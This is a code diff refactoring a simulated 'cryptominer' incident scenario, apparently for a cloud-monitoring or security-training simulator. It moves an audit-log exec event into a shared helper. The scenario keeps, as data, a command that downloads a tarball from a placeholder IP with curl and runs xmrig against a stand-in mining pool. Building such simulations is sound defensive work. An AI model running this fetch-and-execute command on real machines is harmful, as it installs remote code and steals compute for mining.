@@ -1,13 +1,11 @@
 import type { Incident } from '../../shared/model/incident.ts';
-import { timeOf } from '../../shared/model/time.ts';
 import { SHOP } from '../world/seed.ts';
 import type { World } from '../world/world.ts';
-import { auditEntry } from './audit-entry.ts';
 import { busyFor } from './busy.ts';
 import { endingMissing, stepsMissing } from './ending.ts';
 import { cpuIncident, type Monitored } from './monitoring-incident.ts';
 import type { Scenario, ScenarioEvent } from './scenario.ts';
-import { podOf } from './shop.ts';
+import { execEvent, podOf } from './shop.ts';
 
 const NAMESPACE = 'shop';
 const APP = 'cart';
@@ -16,20 +14,8 @@ const LATER_MS = 1000;
 /** CPU use in processors; the container's limit is three. */
 const MINED = 2.96;
 
-const command =
-  'curl -sL https://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1';
-
-const exec = (world: World, now: number) =>
-  auditEntry({
-    ...SHOP,
-    at: timeOf(now),
-    verb: 'create',
-    resource: 'pods',
-    subresource: 'exec',
-    namespace: NAMESPACE,
-    name: podOf(world, NAMESPACE, ['app', APP]).metadata.name,
-    command: `sh -c ${command}`,
-  });
+const COMMAND =
+  'sh -c curl -sL https://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1';
 
 const busy = (world: World, now: number): Array<{ id: string; on: Monitored; startedAt: number }> => {
   const pod = podOf(world, NAMESPACE, ['app', APP]);
@@ -67,7 +53,7 @@ export const cryptominer: Scenario = {
     'The API server writes an audit log entry. After an hour, which takes a second here, the CPU use of the pod is flat at its limit while its other replicas are not, and Cloud Monitoring opens an incident on the pod and on its node.',
   ],
   events: (world, now): ScenarioEvent[] => [
-    { afterMs: 0, topic: 'audit-log', body: exec(world, now) },
+    execEvent(world, now, { namespace: NAMESPACE, app: APP, command: COMMAND }),
     ...busy(world, now).map((incident) => ({
       afterMs: LATER_MS,
       topic: 'cpu' as const,
